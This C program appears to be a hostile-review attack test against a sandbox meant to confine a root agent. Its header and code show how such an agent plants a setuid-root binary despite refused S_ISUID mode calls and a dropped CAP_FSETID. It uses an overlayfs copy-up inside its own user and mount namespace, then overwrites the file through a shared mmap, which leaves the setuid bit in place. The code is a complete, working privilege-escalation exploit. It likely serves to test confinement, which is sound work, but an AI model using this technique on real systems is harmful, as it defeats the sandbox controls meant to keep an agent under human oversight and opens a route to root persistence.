/* ha21-setid.c (hostile review h-attack21): a root agent leaves a
 * setuid-root program of its own on a declared path although every mode
 * call with S_ISUID is refused and CAP_FSETID is dropped (5322a52).
 *   copyup LOWER NAME W: in a user and mount namespace of its own (uid 0
 *     mapped to 0: its own uid), an overlay with the host directory LOWER
 *     (read-only in its view) below and W/u, on the declared path W,
 *     above; opening NAME for writing copies it up, and copy-up sets the
 *     lower file's mode, S_ISUID included, on W/u/NAME (the kernel's
 *     notify_change, not a call of the agent's).
 *   mmap FILE PAYLOAD: writes PAYLOAD over the first bytes of FILE through
 *     a shared mapping: a write through a mapping does not clear S_ISUID
 *     (write(), truncate and fallocate do).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int put(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY);
	int ok = fd >= 0 && write(fd, s, strlen(s)) == (ssize_t)strlen(s);

	if (fd >= 0)
		close(fd);
	return ok ? 0 : -1;
}

static int copyup(const char *lower, const char *name, const char *w)
{
	char u[4096], wk[4096], m[4096], opts[8192], f[4096];
	struct stat st;
	int fd;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) {
		perror("agent: unshare user+mount");
		return 1;
	}
	if (put("/proc/self/uid_map", "0 0 1") || put("/proc/self/setgroups", "deny") ||
	    put("/proc/self/gid_map", "0 0 1")) {
		perror("agent: id maps");
		return 1;
	}
	snprintf(u, sizeof(u), "%s/u", w);
	snprintf(wk, sizeof(wk), "%s/w", w);
	snprintf(m, sizeof(m), "%s/m", w);
	mkdir(u, 0755);
	mkdir(wk, 0755);
	mkdir(m, 0755);
	snprintf(opts, sizeof(opts), "lowerdir=%s,upperdir=%s,workdir=%s", lower, u, wk);
	if (mount("overlay", m, "overlay", 0, opts)) {
		perror("agent: mount overlay");
		return 1;
	}
	snprintf(f, sizeof(f), "%s/%s", m, name);
	fd = open(f, O_RDWR);
	if (fd < 0) {
		perror("agent: open for copy-up");
		return 1;
	}
	close(fd);
	snprintf(f, sizeof(f), "%s/%s", u, name);
	if (stat(f, &st)) {
		perror("agent: stat upper");
		return 1;
	}
	printf("agent: copied up to %s: mode %o uid %d\n", f, (unsigned)st.st_mode & 07777,
	       (int)st.st_uid);
	umount2(m, MNT_DETACH);
	return 0;
}

static int do_mmap(const char *file, const char *payload)
{
	struct stat st, ps;
	int fd = open(file, O_RDWR), pfd = open(payload, O_RDONLY);
	char *dst, *src;

	if (fd < 0 || pfd < 0 || fstat(fd, &st) || fstat(pfd, &ps)) {
		perror("agent: open");
		return 1;
	}
	if (ps.st_size > st.st_size) {
		fprintf(stderr, "agent: payload larger than %s\n", file);
		return 1;
	}
	dst = mmap(NULL, (size_t)st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	src = mmap(NULL, (size_t)ps.st_size, PROT_READ, MAP_PRIVATE, pfd, 0);
	if (dst == MAP_FAILED || src == MAP_FAILED) {
		perror("agent: mmap");
		return 1;
	}
	memcpy(dst, src, (size_t)ps.st_size);
	msync(dst, (size_t)st.st_size, MS_SYNC);
	munmap(dst, (size_t)st.st_size);
	close(fd);
	stat(file, &st);
	printf("agent: wrote %lld bytes of its own over %s through a shared mapping: mode now %o\n",
	       (long long)ps.st_size, file, (unsigned)st.st_mode & 07777);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 5 && !strcmp(argv[1], "copyup"))
		return copyup(argv[2], argv[3], argv[4]);
	if (argc == 4 && !strcmp(argv[1], "mmap"))
		return do_mmap(argv[2], argv[3]);
	fprintf(stderr, "usage: see the header\n");
	return 2;
}
